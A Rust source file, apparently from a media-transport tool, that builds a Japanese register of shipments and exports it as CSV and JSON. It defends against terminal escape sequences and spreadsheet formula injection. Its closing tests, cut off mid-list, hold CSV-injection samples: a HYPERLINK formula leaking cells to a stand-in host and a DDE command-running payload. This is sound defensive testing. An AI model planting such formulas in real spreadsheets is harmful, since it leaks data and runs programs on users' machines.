//! The 移送記録簿 (transport register): one row per shipment, folded from its events,
//! exported as CSV (UTF-8 with BOM and CRLF, so Excel opens Japanese text correctly) or
//! JSON with the same Japanese column names.
//!
//! Also every other way the ledger is printed (`record list`, `show`, `due`). The
//! ledger is a file that whoever can write it may change with `sqlite3`: the chain
//! check detects that, but until someone runs it a row INSERTed with `ESC ] 0; … BEL`,
//! `ESC [ 2 J` or U+202E in its time, shipment or body would drive the terminal of
//! whoever lists it, or reach a spreadsheet (CWE-150, CWE-117; issue 13 finding 08).
//! So each output is made inert in one place, whole, by `untrusted::clean`: each line
//! ([`list_line`], [`show_lines`], [`due_line`]), each CSV cell ([`write_csv`]), each
//! string of a JSON output ([`write_json`]), not field by field.

use std::collections::BTreeMap;
use std::io::{self, Write};

use serde_json::Value;

use super::{Event, EventKind};
use crate::untrusted::{clean, sanitize};

/// An event's kind as shown: an unknown one as `unknown(NAME)`, so it is seen, not
/// mistaken for a kind isou wrote. Cleaned with the line it is part of.
pub fn kind_label(e: &Event) -> String {
    match (&e.kind, &e.unknown_kind) {
        (EventKind::Unknown, Some(k)) => format!("unknown({})", sanitize(k)),
        (k, _) => k.as_str().to_string(),
    }
}

/// An event's time as people read it: `YYYY-MM-DD HH:MM` in the registry's time zone,
/// the zone named (`2026-12-04 03:07 JST`); the ledger keeps the UTC instant.
fn when(e: &Event) -> String {
    format!(
        "{} {}",
        crate::clock::local(&e.recorded_at),
        crate::clock::zone_label()
    )
}

/// An event's kind as a clerk reads it: the Japanese word and the stored name
/// (`検証 verified`), so the list reads in the manual's terms and the name `--json`
/// and `record correct` speak is still there. A kind without a Japanese word (one a
/// later isou added) is shown by its stored name.
pub fn kind_name(e: &Event) -> String {
    let ja = match e.kind {
        EventKind::Sealed => "封印",
        EventKind::Shipped => "発送",
        EventKind::Received => "受領",
        EventKind::Verified => "検証",
        EventKind::Opened => "復号",
        EventKind::KeySent => "鍵送付",
        EventKind::HandCarried => "持参",
        EventKind::Disposed => "廃棄",
        EventKind::Corrected => "訂正",
        EventKind::Checked => "確認(未認証)",
        EventKind::CheckedBeforeShipping => "発送前確認",
        EventKind::CheckedBySender => "送付元確認",
        EventKind::CheckedIncomplete => "確認(セット不完全)",
        EventKind::Unknown => "種別不明",
        #[allow(unreachable_patterns)]
        _ => "",
    };
    if ja.is_empty() {
        kind_label(e)
    } else {
        format!("{ja} {}", kind_label(e))
    }
}

/// Who acted, as the event names them: the seal's `handler` (the 移送担当者 it was
/// sealed for), else `by` (who ran the command).
fn actor_of(e: &Event) -> String {
    let handler = s(&e.body["handler"]);
    if e.kind == EventKind::Sealed && !handler.is_empty() {
        handler
    } else {
        s(&e.body["by"])
    }
}

/// The outcome of an event in a few words, for the list's last column: a check's
/// result (正常 / 異常), where a medium went, how it was shipped or disposed of.
fn outcome(e: &Event) -> String {
    let b = &e.body;
    let join = |parts: Vec<String>| {
        parts
            .into_iter()
            .filter(|p| !p.trim().is_empty())
            .collect::<Vec<_>>()
            .join(" ")
    };
    let result = || {
        if b["valid"] == Value::Bool(true) {
            "正常"
        } else if b["set_complete"] == Value::Bool(false) && b["problems"] == 0 {
            "未了(セット不完全)"
        } else {
            "異常"
        }
        .to_string()
    };
    match e.kind {
        EventKind::Sealed => join(vec![
            format!("→ {}", s(&b["destination"])),
            class_label(&s(&b["class"])),
            s(&b["medium_type"]),
        ]),
        EventKind::Shipped => join(vec![s(&b["carrier"]), s(&b["tracking_number"])]),
        EventKind::KeySent => join(vec![s(&b["method"]), s(&b["tracking_number"])]),
        EventKind::HandCarried => format!("立会人 {}", s(&b["attendant"])),
        EventKind::Received
        | EventKind::Verified
        | EventKind::Checked
        | EventKind::CheckedBeforeShipping
        | EventKind::CheckedBySender
        | EventKind::CheckedIncomplete => {
            let from = s(&b["from"]);
            join(vec![
                result(),
                if from.is_empty() {
                    String::new()
                } else {
                    format!("送付元 {from}")
                },
            ])
        }
        EventKind::Opened => {
            let out = s(&b["out"]);
            if out.is_empty() {
                String::new()
            } else {
                format!("→ {out}")
            }
        }
        EventKind::Disposed => {
            let witness = s(&b["witness"]);
            join(vec![
                s(&b["method"]),
                if witness.is_empty() {
                    String::new()
                } else {
                    format!("立会人 {witness}")
                },
            ])
        }
        EventKind::Corrected => format!("event {} を訂正: {}", s(&b["corrects"]), s(&b["note"])),
        _ => match b.get("valid") {
            Some(Value::Bool(_)) => result(),
            _ => String::new(),
        },
    }
}

/// How wide `text` is on a terminal: East Asian wide characters (kanji, kana,
/// full-width forms) take two columns (`unicode-width`), so columns of Japanese names
/// line up.
fn display_width(text: &str) -> usize {
    unicode_width::UnicodeWidthStr::width(text)
}

/// `text` padded with spaces to `width` terminal columns.
fn pad(text: &str, width: usize) -> String {
    let w = display_width(text);
    format!("{text}{}", " ".repeat(width.saturating_sub(w)))
}

/// `text` cut to at most `width` terminal columns, ending in `…` when cut.
fn cut(text: &str, width: usize) -> String {
    if display_width(text) <= width {
        return text.to_string();
    }
    let mut out = String::new();
    let mut used = 0;
    for c in text.chars() {
        let w = unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
        if used + w + 1 > width {
            break;
        }
        out.push(c);
        used += w;
    }
    out.push('…');
    out
}

/// The widest a person's name is shown in `record list` (cut with `…`; in full in
/// `record show`).
const BY_WIDTH: usize = 16;

/// The widest the outcome is shown in `record list` (cut with `…`; in full in
/// `record show`).
const OUTCOME_WIDTH: usize = 44;

/// The cells of an event's row in the list: id, time (registry's zone, named), kind,
/// shipment, who, outcome; each from the ledger cleaned (`sanitize`) before it is
/// measured, so what is aligned is what is printed.
fn row_cells(e: &Event) -> [String; 6] {
    [
        e.id.to_string(),
        sanitize(&when(e)),
        kind_name(e),
        sanitize(&e.shipment),
        clean(&actor_of(e)),
        clean(&outcome(e)),
    ]
}

/// The header of the event table.
const HEADER: [&str; 6] = [
    "ID",
    "日時",
    "種別 kind",
    "移送ID",
    "担当 by",
    "結果 result",
];

/// Lays out rows under [`HEADER`], each column as wide as its widest cell in terminal
/// columns (ids right-aligned), two spaces between columns, no trailing spaces. Every
/// line is cleaned whole (`untrusted::clean`) as well.
fn table(rows: Vec<[String; 6]>) -> Vec<String> {
    let header: [String; 6] = HEADER.map(str::to_string);
    let mut widths = [0usize; 6];
    for r in std::iter::once(&header).chain(rows.iter()) {
        for (w, c) in widths.iter_mut().zip(r) {
            *w = (*w).max(display_width(c));
        }
    }
    std::iter::once(header)
        .chain(rows)
        .map(|r| {
            let mut line = String::new();
            for (i, (c, w)) in r.iter().zip(widths).enumerate() {
                if i > 0 {
                    line.push_str("  ");
                }
                if i == 0 {
                    line.push_str(&format!("{}{c}", " ".repeat(w - display_width(c))));
                } else {
                    line.push_str(&pad(c, w));
                }
            }
            clean(line.trim_end())
        })
        .collect()
}

/// The lines of `record list`: a header, then a row per event (id, time in the
/// registry's zone, kind in Japanese and English, shipment, who, outcome), columns
/// aligned by terminal width (issue 16: the raw JSON bodies, cut at the terminal's
/// width, were unreadable). A long name or outcome is cut with `…`: `record show`
/// has it in full.
pub fn list_lines(events: &[Event]) -> Vec<String> {
    table(
        events
            .iter()
            .map(|e| {
                let mut r = row_cells(e);
                r[4] = cut(&r[4], BY_WIDTH);
                r[5] = cut(&r[5], OUTCOME_WIDTH);
                r
            })
            .collect(),
    )
}

/// How many terminal columns a line of `record show`'s facts holds before it is
/// wrapped.
const SHOW_WIDTH: usize = 100;

/// An event's facts as (name, value) pairs, nested objects and lists flattened to
/// dotted names (`summary.signer`, `choices.1.flag`), so no JSON is printed; a list of
/// plain values is one value, comma-separated; null is `(none)`.
fn facts(prefix: &str, v: &Value, out: &mut Vec<(String, String)>) {
    let name = |k: &str| {
        if prefix.is_empty() {
            k.to_string()
        } else {
            format!("{prefix}.{k}")
        }
    };
    match v {
        Value::Object(o) if !o.is_empty() => {
            for (k, v) in o {
                facts(&name(k), v, out);
            }
        }
        Value::Array(a) if a.iter().any(|v| v.is_object() || v.is_array()) => {
            for (i, v) in a.iter().enumerate() {
                facts(&name(&(i + 1).to_string()), v, out);
            }
        }
        Value::Array(a) => out.push((
            prefix.to_string(),
            a.iter().map(s).collect::<Vec<_>>().join(", "),
        )),
        Value::Null => out.push((prefix.to_string(), "(none)".into())),
        Value::String(t) => out.push((prefix.to_string(), t.clone())),
        other => out.push((prefix.to_string(), other.to_string())),
    }
}

/// The lines of `record show` for one shipment's events: the event table as `record
/// list` prints it but nothing cut, then each event under its heading (`event ID
/// TIME KIND`, the id `record correct` takes) with each fact of its body on a line of
/// its own, names aligned, values in full: wrapped, never cut, so what a correction
/// would correct is all seen (issue 15 item 11). Each fact is cleaned whole before it
/// is wrapped, so a secret or an escape sequence cannot be split past the cleaner.
pub fn show_lines(events: &[Event]) -> Vec<String> {
    let mut out = table(events.iter().map(row_cells).collect());
    for e in events {
        out.push(String::new());
        wrap_into(
            &mut out,
            &clean(&format!("event {}  {}  {}", e.id, when(e), kind_name(e))),
            "",
            "  ",
        );
        let mut all = Vec::new();
        facts("", &e.body, &mut all);
        let all: Vec<(String, String)> = all
            .into_iter()
            .map(|(k, v)| (clean(if k.is_empty() { "(body)" } else { &k }), clean(&v)))
            .collect();
        let width = all.iter().map(|(k, _)| display_width(k)).max().unwrap_or(0);
        // Continuation lines start under the value, so the names stay a column.
        let under = " ".repeat(4 + width + 2);
        for (k, v) in &all {
            wrap_into(&mut out, &format!("{}  {v}", pad(k, width)), "    ", &under);
        }
    }
    out
}

/// Appends `text` (already clean) to `out` as lines of at most [`SHOW_WIDTH`]
/// terminal columns, the first after `indent`, continuation lines after `next`; broken after a
/// space or comma in the line's second half when there is one, else where it is full.
/// Every character is kept, but the trailing spaces of the last line.
fn wrap_into(out: &mut Vec<String>, text: &str, indent: &str, next: &str) {
    let chars: Vec<char> = text.chars().collect();
    let mut rest = &chars[..];
    let mut pad = indent.to_string();
    let cw = |c: &char| unicode_width::UnicodeWidthChar::width(*c).unwrap_or(0);
    loop {
        // How many characters fit in the line's room (at least one).
        let room = SHOW_WIDTH
            .saturating_sub(display_width(&pad))
            .max(SHOW_WIDTH / 3);
        let mut fit = 0;
        let mut used = 0;
        let mut half = 0;
        for c in rest {
            if used + cw(c) > room {
                break;
            }
            used += cw(c);
            fit += 1;
            if used <= room / 2 {
                half = fit;
            }
        }
        let fit = fit.max(1);
        let take = if fit >= rest.len() {
            rest.len()
        } else {
            rest[half..fit]
                .iter()
                .rposition(|c| matches!(c, ' ' | ','))
                .map_or(fit, |i| half + i + 1)
        };
        let line = format!("{pad}{}", rest[..take].iter().collect::<String>());
        rest = &rest[take..];
        // The last piece without trailing spaces (an empty value's line); a break
        // after a space keeps that space, so joining the lines gives the text back.
        out.push(if rest.is_empty() {
            line.trim_end().to_string()
        } else {
            line
        });
        if rest.is_empty() {
            break;
        }
        pad = next.to_string();
    }
}

/// A line of `record due`: a row of [`due`].
pub fn due_line(m: &BTreeMap<&'static str, String>) -> String {
    let f = |k: &str| sanitize(m.get(k).map(String::as_str).unwrap_or(""));
    clean(&format!(
        "{}  {}  保管期限 {}  (not yet disposed of)",
        f("媒体ID"),
        f("資料の形態"),
        f("保管期限")
    ))
}

/// `v` with every string in it, keys and values, cleaned.
fn inert(v: Value) -> Value {
    match v {
        Value::String(s) => Value::String(clean(&s)),
        Value::Array(a) => Value::Array(a.into_iter().map(inert).collect()),
        Value::Object(o) => {
            Value::Object(o.into_iter().map(|(k, v)| (clean(&k), inert(v))).collect())
        }
        other => other,
    }
}

/// Writes rows or events as pretty JSON and a newline, every string in it cleaned
/// (JSON escapes control characters, but not U+202E or the other invisible ones).
pub fn write_json<W: Write, T: serde::Serialize + ?Sized>(mut out: W, rows: &T) -> io::Result<()> {
    let v = serde_json::to_value(rows).map_err(io::Error::other)?;
    serde_json::to_writer_pretty(&mut out, &inert(v)).map_err(io::Error::other)?;
    out.write_all(b"\n")?;
    out.flush()
}

/// Column headers of the 移送記録簿, in order (from the product design).
pub const COLUMNS: &[&str] = &[
    "移送ID",
    "区分",
    "移送担当者",
    "移送元",
    "移送先",
    "情報の区分",
    "資料の形態",
    "媒体ID",
    "移送手段",
    "追跡番号",
    "封筒表示確認",
    "暗号化方式",
    "受領者鍵指紋",
    "鍵・パスワードの送付方法",
    "マニフェストSHA-256",
    "署名鍵",
    "発送日時",
    "受領日時・受領者・検証結果",
    "復号日時・復号者",
    "廃棄日時・方法・立会人",
    "保管期限",
    "備考",
];

/// `identifiable` → 非匿名化, `anonymized` → 匿名化 (other text as it is).
fn class_label(c: &str) -> String {
    match c {
        "identifiable" => "非匿名化".into(),
        "anonymized" => "匿名化".into(),
        other => other.into(),
    }
}

/// The shipment's facts from an authenticated recipient event (received, verified, or
/// opened from a pinned sender), each only when the event has it. The class is never
/// blank: none, or a text that is no class (a medium sealed before the class was signed,
/// a ledger written before issue 14, a sender's `unknown`), is 非匿名化, the safe
/// default, with a 備考 saying the sender did not state it (issue 14, finding 05).
fn received_fields(r: &mut BTreeMap<&'static str, String>, b: &Value) {
    for (k, f) in [
        ("移送元", "from"),
        ("移送先", "destination"),
        ("資料の形態", "medium_type"),
        ("追跡番号", "tracking_number"),
        ("署名鍵", "signer"),
    ] {
        let v = s(&b[f]);
        if !v.is_empty() {
            r.insert(k, v);
        }
    }
    let class = s(&b["class"]);
    let stated = b["class_stated"] != Value::Bool(false)
        && matches!(class.as_str(), "identifiable" | "anonymized");
    if stated {
        r.insert("情報の区分", class_label(&class));
        return;
    }
    // A stated class from another event of the shipment is not overridden.
    if matches!(
        r.get("情報の区分").map(String::as_str),
        Some("非匿名化" | "匿名化")
    ) && b["class_stated"] != Value::Bool(false)
    {
        return;
    }
    r.insert("情報の区分", class_label("identifiable"));
    let claimed = match b.get("class_claimed").map(s) {
        Some(c) if !c.is_empty() => Some(c),
        // Ledgers before this release recorded an unknown class as `unrecognised: …`.
        _ => class
            .strip_prefix("unrecognised: ")
            .map(str::to_string)
            .or_else(|| (!class.is_empty() && class != "identifiable").then(|| class.clone())),
    };
    let note = match claimed {
        Some(c) => format!("情報の区分: 送付元の記載 「{c}」 は区分でないため非匿名化として扱う"),
        None => "情報の区分: 送付元の記載なし、非匿名化として扱う".to_string(),
    };
    if !r.get("備考").is_some_and(|n| n.contains(&note)) {
        add_note(r, note);
    }
}

/// The mark of an event appended by `record recover` after it happened (its body's
/// `recorded_late`): every register shows it, so an auditor sees which entries were
/// not written when they happened, and when they were.
pub fn late_note(e: &Event) -> Option<String> {
    let l = e.body.get("recorded_late")?;
    Some(format!(
        "記録遅延: {} (発生 {}, 記録 {})",
        e.kind.as_str(),
        crate::clock::local(&s(&l["happened_at"])),
        crate::clock::local(&e.recorded_at)
    ))
}

/// Adds a remark to a row's `備考`, after those already there.
fn add_note(r: &mut BTreeMap<&'static str, String>, note: String) {
    let cell = r.entry("備考").or_default();
    if !cell.is_empty() {
        cell.push_str(" / ");
    }
    cell.push_str(&note);
}

/// A check's result as the registers word it: 検証OK, or why not (a set left
/// incomplete, or failed).
fn check_result(b: &Value) -> &'static str {
    if b["valid"] == Value::Bool(true) {
        "検証OK"
    } else if b["set_complete"] == Value::Bool(false) && b["problems"] == 0 {
        "検証未了(セット不完全)"
    } else {
        "検証NG"
    }
}

fn s(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Array(a) => a.iter().map(s).collect::<Vec<_>>().join(" "),
        other => other.to_string(),
    }
}

/// The 備考 of one `record ship` event, in one place (issue 14): every explicit choice
/// and every replacement it recorded, so the register never shows only the last carrier
/// or number while the signed medium says another (§2.2③⑥⑧⑨).
fn ship_notes(b: &Value) -> Vec<String> {
    let mut notes = Vec::new();
    let date = s(&b["date"]);
    let carrier = s(&b["carrier"]);
    let replaced = s(&b["replaces_carrier"]);
    // Events before this change named only a tracked carrier replaced by an untracked one.
    let replaced = if replaced.is_empty() {
        s(&b["replaces_tracked_carrier"])
    } else {
        replaced
    };
    if !replaced.is_empty() {
        notes.push(format!(
            "移送手段の変更 {replaced} → {carrier} ({date} 発送記録)"
        ));
    }
    if b["untracked_carrier"] == Value::Bool(true) {
        notes.push(format!(
            "明示的な選択 追跡なしの手段 {carrier} (§2.2⑥ 追跡サービス付きの手段)"
        ));
    }
    let number = s(&b["tracking_number"]);
    let old_number = s(&b["replaces_tracking_number"]);
    if !old_number.is_empty() {
        let number = if number.is_empty() {
            "なし".into()
        } else {
            number.clone()
        };
        notes.push(format!(
            "追跡番号の変更 {old_number} → {number} ({date} 発送記録)"
        ));
    }
    let sealed = s(&b["sealed_tracking_number"]);
    if !sealed.is_empty() {
        notes.push(format!("媒体に署名された追跡番号 {sealed} と異なる"));
    }
    if b["attendance_acknowledged"] == Value::Bool(true) {
        notes.push("持参: 立会いの規則を確認済".into());
    }
    notes
}

/// Folds events into register rows, one per shipment, in order of first appearance.
pub fn transport_register(events: &[Event]) -> Vec<BTreeMap<&'static str, String>> {
    let mut order: Vec<String> = Vec::new();
    let mut rows: BTreeMap<String, BTreeMap<&'static str, String>> = BTreeMap::new();
    for e in events {
        if !rows.contains_key(&e.shipment) {
            order.push(e.shipment.clone());
            let mut r: BTreeMap<&'static str, String> =
                COLUMNS.iter().map(|c| (*c, String::new())).collect();
            r.insert("移送ID", e.shipment.clone());
            r.insert("媒体ID", e.shipment.clone());
            rows.insert(e.shipment.clone(), r);
        }
        let r = rows.get_mut(&e.shipment).expect("inserted above");
        let b = &e.body;
        // Times in the registry's zone; the column titles name it (`titled`).
        let at = crate::clock::local(&e.recorded_at);
        let mut set = |k: &'static str, v: String| {
            if !v.is_empty() {
                r.insert(k, v);
            }
        };
        match e.kind {
            EventKind::Sealed => {
                set("区分", "発送".into());
                set("移送担当者", s(&b["handler"]));
                set("移送元", s(&b["source_organization"]));
                set("移送先", s(&b["destination"]));
                set("情報の区分", class_label(&s(&b["class"])));
                set("資料の形態", s(&b["medium_type"]));
                set("移送手段", s(&b["carrier"]));
                set("保管期限", s(&b["retain_until"]));
                set("追跡番号", s(&b["summary"]["tracking_number"]));
                set(
                    "暗号化方式",
                    if b["passphrase"] == Value::Bool(true) {
                        "age v1 (scrypt パスフレーズ)"
                    } else {
                        "age v1 (X25519)"
                    }
                    .into(),
                );
                set("受領者鍵指紋", s(&b["recipients"]));
                if b["envelope_confirmed"] == Value::Bool(true) {
                    set("封筒表示確認", "親展・取扱注意 確認済".into());
                }
                set("マニフェストSHA-256", s(&b["summary"]["manifest_sha256"]));
                set("署名鍵", s(&b["summary"]["signer"]));
                if b["attendance_acknowledged"] == Value::Bool(true) {
                    add_note(r, "持参: 立会いの規則を確認済".into());
                }
                // Every unsafe choice made by flag (issue 14), so the register shows it.
                if let Some(choices) = b["choices"].as_array() {
                    for c in choices {
                        add_note(
                            r,
                            format!("明示的な選択 {} ({})", s(&c["flag"]), s(&c["rule"])),
                        );
                    }
                }
            }
            EventKind::Shipped => {
                set("移送手段", s(&b["carrier"]));
                set("追跡番号", s(&b["tracking_number"]));
                set("発送日時", s(&b["date"]));
                for note in ship_notes(b) {
                    add_note(r, note);
                }
            }
            EventKind::Received | EventKind::Verified => {
                if r.get("区分").is_none_or(|v| v.is_empty()) {
                    r.insert("区分", "受領".into());
                }
                received_fields(r, b);
                let mut set = |k: &'static str, v: String| {
                    if !v.is_empty() {
                        r.insert(k, v);
                    }
                };
                let result = if b["valid"] == Value::Bool(true) {
                    "検証OK"
                } else {
                    "検証NG"
                };
                set(
                    "受領日時・受領者・検証結果",
                    format!("{} {} {result}", at, s(&b["by"])),
                );
            }
            EventKind::Opened => {
                set("復号日時・復号者", format!("{} {}", at, s(&b["by"])));
                // Opened from a pinned sender (open authenticates first): the shipment's
                // facts from this event when no verify recorded them (finding 07).
                if b["sender_checked"] == Value::Bool(true) {
                    if r.get("区分").is_none_or(|v| v.is_empty()) {
                        r.insert("区分", "受領".into());
                    }
                    received_fields(r, b);
                }
            }
            EventKind::Disposed => set(
                "廃棄日時・方法・立会人",
                format!(
                    "{} {} 立会人:{}",
                    s(&b["date"]),
                    s(&b["method"]),
                    s(&b["witness"])
                ),
            ),
            EventKind::KeySent => set("鍵・パスワードの送付方法", s(&b["method"])),
            // A medium whose claims could not be authenticated: a row of its own (the
            // medium is in custody and must be disposed of), its claims only as remarks.
            EventKind::Checked => {
                set("区分", "受領(未認証)".into());
                let c = &b["claimed"];
                set(
                    "受領日時・受領者・検証結果",
                    format!(
                        "{} {} {}",
                        at,
                        s(&b["by"]),
                        if b["valid"] == Value::Bool(true) {
                            "検証OK(送付元未確認)"
                        } else {
                            "検証NG"
                        }
                    ),
                );
                set(
                    "備考",
                    format!(
                        "未認証の媒体: 記載上の移送ID {} / 移送元 {} / 追跡番号 {}",
                        s(&c["shipment"]),
                        s(&c["from"]),
                        s(&c["tracking_number"])
                    ),
                );
            }
            // The sender's own check before shipping: a remark, never a receipt (no
            // 受領日時, 区分 stays 発送; issue 15 item 4).
            EventKind::CheckedBeforeShipping => add_note(
                r,
                format!("発送前確認 {} {} {}", at, s(&b["by"]), check_result(b)),
            ),
            // The sender's own check after shipping (finding 04): a remark, never a
            // receipt (no 受領日時, 区分 stays 発送).
            EventKind::CheckedBySender => add_note(
                r,
                format!(
                    "発送後の送付元確認 {} {} {}",
                    at,
                    s(&b["by"]),
                    check_result(b)
                ),
            ),
            // Authenticated volumes of an incomplete set: the shipment's facts, but the
            // verification column only while no check of the whole set is there; an
            // earlier 検証OK stands (issue 15 item 4), and the check is a remark.
            EventKind::CheckedIncomplete => {
                if r.get("区分").is_none_or(|v| v.is_empty()) {
                    r.insert("区分", "受領".into());
                }
                received_fields(r, b);
                if r.get("受領日時・受領者・検証結果")
                    .is_none_or(|v| v.is_empty())
                {
                    r.insert(
                        "受領日時・受領者・検証結果",
                        format!("{} {} 検証未了(セット不完全)", at, s(&b["by"])),
                    );
                }
                add_note(
                    r,
                    format!(
                        "不完全なセットの確認 {} {}: {}",
                        at,
                        s(&b["by"]),
                        s(&b["missing_text"])
                    ),
                );
            }
            EventKind::HandCarried | EventKind::Corrected => {}
            // A row written outside isou: said in the remarks, not folded in.
            EventKind::Unknown => add_note(
                r,
                format!(
                    "種別不明の記録 (unknown kind {}, {})",
                    e.unknown_kind.as_deref().unwrap_or(""),
                    crate::clock::local(&e.recorded_at)
                ),
            ),
        }
        if let Some(note) = late_note(e) {
            add_note(r, note);
        }
    }
    // A shipment id recorded with more than one signing key (another pinned sender's
    // medium claimed it: finding 03): every key and when it was first recorded, in
    // 署名鍵 and loudly in 備考, so no claimant's facts stand alone for the row.
    let mut signers: BTreeMap<&str, Vec<(String, String)>> = BTreeMap::new();
    for e in events {
        let Some(signer) = super::claimed_signer(e).map(str::to_string) else {
            continue;
        };
        let known = signers.entry(e.shipment.as_str()).or_default();
        if !signer.is_empty() && !known.iter().any(|(k, _)| *k == signer) {
            known.push((signer, crate::clock::local(&e.recorded_at)));
        }
    }
    for (shipment, known) in signers.iter().filter(|(_, k)| k.len() > 1) {
        if let Some(r) = rows.get_mut(*shipment) {
            let keys: Vec<&str> = known.iter().map(|(k, _)| k.as_str()).collect();
            r.insert("署名鍵", keys.join(" / "));
            add_note(
                r,
                format!(
                    "移送ID競合: 複数の署名鍵 {} — どちらの移送か両送付元に確認",
                    known
                        .iter()
                        .map(|(k, at)| format!("{k} ({at})"))
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
            );
        }
    }
    // A passphrase-mode shipment is incomplete until its key is recorded as sent by
    // another route (§2.2 本文・⑦, `keyroute`).
    let mut by_shipment: BTreeMap<&str, Vec<&Event>> = BTreeMap::new();
    for e in events {
        by_shipment.entry(e.shipment.as_str()).or_default().push(e);
    }
    for (shipment, r) in rows.iter_mut() {
        let of = by_shipment
            .get(shipment.as_str())
            .map_or(&[][..], Vec::as_slice);
        if super::keyroute::MediumRoute::of(of).is_some_and(|m| m.key_missing(of)) {
            add_note(
                r,
                "鍵未送付: パスフレーズを別経路で送付した記録がない (未完了)".into(),
            );
        }
    }
    order.into_iter().filter_map(|k| rows.remove(&k)).collect()
}

/// Columns of the 媒体管理簿 (§1.2②: the list of portable media held, with the dates
/// they were received or created and disposed of).
pub const MEDIA_COLUMNS: &[&str] = &[
    "媒体ID",
    "資料の形態",
    "区分",
    "作成・受領日",
    "保管期限",
    "廃棄日",
    "廃棄方法",
    "備考",
];

/// Columns of the 廃棄記録 (§2.4⑥: a record of every disposal).
pub const DISPOSAL_COLUMNS: &[&str] = &[
    "媒体ID",
    "資料の形態",
    "廃棄日",
    "廃棄方法",
    "委託先",
    "廃棄証明書番号",
    "立会人",
    "実施者",
    "備考",
];

/// One row per medium.
pub fn media_register(events: &[Event]) -> Vec<BTreeMap<&'static str, String>> {
    let mut order: Vec<String> = Vec::new();
    let mut rows: BTreeMap<String, BTreeMap<&'static str, String>> = BTreeMap::new();
    for e in events {
        let r = rows.entry(e.shipment.clone()).or_insert_with(|| {
            order.push(e.shipment.clone());
            let mut r: BTreeMap<&'static str, String> =
                MEDIA_COLUMNS.iter().map(|c| (*c, String::new())).collect();
            r.insert("媒体ID", e.shipment.clone());
            r
        });
        let b = &e.body;
        // The day in the registry's zone (a medium made at 03:07 JST is of that day).
        let date = crate::clock::local_date(&e.recorded_at);
        match e.kind {
            // Authenticated volumes of an incomplete set are media held from the day
            // they were checked, as received ones are (issue 15 item 4).
            EventKind::Sealed
            | EventKind::Received
            | EventKind::Checked
            | EventKind::CheckedIncomplete
                if r["作成・受領日"].is_empty() =>
            {
                let kind = match e.kind {
                    EventKind::Sealed => "作成(発送)",
                    EventKind::Received | EventKind::CheckedIncomplete => "受領",
                    _ => "受領(未認証)",
                };
                r.insert("区分", kind.into());
                r.insert("作成・受領日", date);
                r.insert("資料の形態", s(&b["medium_type"]));
                r.insert("保管期限", s(&b["retain_until"]));
            }
            EventKind::Disposed => {
                r.insert("廃棄日", s(&b["date"]));
                r.insert("廃棄方法", s(&b["method"]));
            }
            _ => {}
        }
        if let Some(note) = late_note(e) {
            add_note(r, note);
        }
    }
    order.into_iter().filter_map(|k| rows.remove(&k)).collect()
}

/// One row per disposal.
pub fn disposal_log(events: &[Event]) -> Vec<BTreeMap<&'static str, String>> {
    let media = media_register(events);
    events
        .iter()
        .filter(|e| e.kind == EventKind::Disposed)
        .map(|e| {
            let form = media
                .iter()
                .find(|m| m["媒体ID"] == e.shipment)
                .map(|m| m["資料の形態"].clone())
                .unwrap_or_default();
            BTreeMap::from([
                ("媒体ID", e.shipment.clone()),
                ("資料の形態", form),
                ("廃棄日", s(&e.body["date"])),
                ("廃棄方法", s(&e.body["method"])),
                // §2.4⑦: who did outsourced work and its certificate of destruction.
                ("委託先", s(&e.body["contractor"])),
                ("廃棄証明書番号", s(&e.body["certificate"])),
                ("立会人", s(&e.body["witness"])),
                ("実施者", s(&e.body["by"])),
                ("備考", late_note(e).unwrap_or_default()),
            ])
        })
        .collect()
}

/// Media whose retention date has passed and that are not disposed of (§2.4: dispose
/// promptly after the approved period), as of `today` (`YYYY-MM-DD`).
pub fn due(events: &[Event], today: &str) -> Vec<BTreeMap<&'static str, String>> {
    media_register(events)
        .into_iter()
        .filter(|m| {
            !m["保管期限"].is_empty() && m["保管期限"].as_str() < today && m["廃棄日"].is_empty()
        })
        .collect()
}

/// Writes rows as CSV: UTF-8 with a byte-order mark and CRLF line ends, every field
/// quoted as needed, in `columns` order, every cell cleaned (`untrusted::clean`: no
/// escape sequence, bidi or invisible character from the ledger), no field read as a
/// formula.
pub fn write_csv<W: Write>(
    mut out: W,
    columns: &[&str],
    rows: &[BTreeMap<&'static str, String>],
) -> io::Result<()> {
    out.write_all("\u{feff}".as_bytes())?;
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    w.write_record(columns.iter().map(|c| titled(c)))?;
    for r in rows {
        w.write_record(
            columns
                .iter()
                .map(|c| clean(r.get(c).map(String::as_str).unwrap_or("")))
                .map(|cell| not_a_formula(&cell).into_owned().into_bytes()),
        )?;
    }
    w.flush()
}

/// A column's title as written: one holding times (`…日時…`) names the registry's zone
/// once, `受領日時・受領者・検証結果(JST)`, so the times below it need not.
pub fn titled(column: &str) -> String {
    if column.contains("日時") {
        format!("{column}({})", crate::clock::zone_label())
    } else {
        column.to_string()
    }
}

/// A cell as text a spreadsheet will not evaluate. Fields come from media received
/// from outside (`Source-Organization`, `External-Identifier`, … of a hostile bag) and
/// the register is opened in Excel: a cell starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return is taken as a formula there (CSV injection, CWE-1236: `=HYPERLINK`
/// leaking other cells, DDE `+cmd|…` running programs). Excel in Japanese also takes
/// the full-width forms `＝` U+FF1D, `＋` U+FF0B, `－` U+FF0D and `＠` U+FF20, which a
/// Japanese IME produces, as formula starts, so they are guarded too. As OWASP advises,
/// such a cell gets a leading apostrophe, so Excel shows it as the text it is.
pub fn not_a_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some(
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}',
        ) => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_a_spreadsheet_would_evaluate_become_text() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://x/?\"&A1)",
                "'=HYPERLINK(\"http://x/?\"&A1)",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            // Full-width forms, which Excel in Japanese evaluates as well.
            (
                "＝HYPERLINK(\"http://x/?\"&A1)",
